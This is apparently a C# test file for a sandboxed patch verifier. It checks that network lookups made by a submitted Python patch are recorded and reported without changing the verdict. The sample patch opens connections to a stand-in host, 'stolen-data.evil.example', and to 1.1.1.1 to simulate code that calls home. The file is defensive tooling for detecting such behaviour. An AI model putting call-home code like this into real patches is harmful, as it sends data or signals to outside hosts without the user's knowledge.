using CodexService.Sandbox;
using CodexService.Testing;

namespace CodexService.Verification.Tests;

public sealed class NetworkEvidenceTests(DockerSandboxes sandboxes) : IClassFixture<DockerSandboxes>
{
    private const string Tests = """
        import socket
        from calc import add

        def test_add():
            try:
                socket.create_connection(("metrics.example", 443), 30)
            except OSError:
                pass
            assert add(1, 2) == 3

        """;

    [Fact]
    public async Task Verify_PatchThatCallsHome_IsShownAndChangesNoVerdict()
    {
        using var repository = await TestRepository.CreateAsync(("calc.py", SampleProject.Buggy), ("test_calc.py", Tests.ReplaceLineEndings("\n")));
        var patch = await repository.PatchAsync(("calc.py", $"import socket\n\nfor target in ('stolen-data.evil.example', '1.1.1.1'):\n    try:\n        socket.create_connection((target, 443), 30)\n    except OSError:\n        pass\n\n\n{SampleProject.Fixed}"));

        var result = await sandboxes.PatientVerifier.VerifyAsync(
            new VerificationRequest(async token => await sandboxes.OpenAsync(repository, token), patch, "python3 -m pytest -q", [], TimeSpan.FromMinutes(5), new Progress<string>()), default);

        Assert.True(result.Verified, result.Reason);
        var (before, after) = result.Network;
        Assert.Equal("metrics.example", Assert.Single(before.Names).Name);
        Assert.Equal(0, before.Addresses);
        Assert.Equal(["stolen-data.evil.example", "metrics.example"], after.Names.Select(name => name.Name));
        Assert.All(after.Names, name => Assert.True(name.Count >= 2, name.ToString()));
        Assert.True(after.Addresses >= 2, after.ToString());
        Assert.Equal(["stolen-data.evil.example"], result.Network.NewWithPatch);
    }

    [Fact]
    public void NewWithPatch_IsClaimedOnlyWhereTheBaseIsKnown()
    {
        var after = new NetworkAttempts { NamesRecorded = true, Names = [Name("a.example"), Name("b.example")] };
        Assert.Equal(["b.example"], New(new NetworkAttempts { NamesRecorded = true, Names = [Name("A.example")] }));
        Assert.Equal(["a.example", "b.example"], New(new NetworkAttempts { NamesRecorded = true }));
        Assert.Empty(New(new NetworkAttempts { NamesRecorded = true, OtherLookups = 1 }));
        Assert.Empty(New(NetworkAttempts.NotRecorded));

        IReadOnlyList<string> New(NetworkAttempts before) => new NetworkEvidence(before, after).NewWithPatch;
    }

    private static NameLookup Name(string name) => new(name, 1, ["A"]);
}
